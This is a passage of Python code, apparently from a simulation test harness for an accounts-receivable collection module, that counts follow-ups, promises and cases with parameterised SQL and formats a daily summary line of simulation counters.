        body = "\n".join(failure["text"] for failure in failures)
        return f"{head}\n{body}\n  book-wide events:\n{recent}"

    def census(self):
        """What the book holds at the end: a few counts by state, to see that every
        path of the simulation was taken."""
        ids = self.customer_ids
        mine = " WHERE partner_id = ANY(%s) GROUP BY 1"
        return {
            "follow-ups": dict(
                self._query("SELECT state, COUNT(*) FROM collection_followup" + mine, ids)
            ),
            "promises": dict(
                self._query("SELECT state, COUNT(*) FROM collection_promise" + mine, ids)
            ),
            "cases": dict(
                self._query(
                    "SELECT COALESCE(close_reason, CASE WHEN legal_stage_id IS NULL"
                    " THEN 'open' ELSE 'legal' END), COUNT(*) FROM collection_case" + mine,
                    ids,
                )
            ),
            "failures": len(self.failures),
        }

    def _summary_line(self):
        c = self.counts
        open_cases, legal = self._query(
            "SELECT COUNT(*), COUNT(legal_stage_id) FROM collection_case"
            " WHERE NOT is_closed AND partner_id = ANY(%s)",
            self.customer_ids,
        )[0]
        states = dict(
            self._query(
                "SELECT state, COUNT(*) FROM collection_followup"
                " WHERE date = %s AND partner_id = ANY(%s) GROUP BY 1",
                self.day,
                self.customer_ids,
            )
        )
        return (
            f"day {self.day_index:>3} {self.day} | inv {c['invoices']} pay {c['payments']} "
            f"cn {c['credit_notes']} rev {c['reversals']} disp {c['disputes']} | contacts "
            f"{c['contacts']} promises {c['promises']} | follow-ups {sum(states.values())} "
            f"(draft {states.get('draft', 0)}) emails {c['emails']} delivered "
            f"{c['delivered']} drafts sent "
            f"{c['drafts_sent']} killed {c['killed']} | cases {open_cases} legal {legal} "
            f"letters {c['letters']} exports {c['exports']} | refused {c['refused']} "
            f"| {self._office_summary()} | queries {c['queries']} | broken "
            f"{len(self.pending_failures)}"
        )
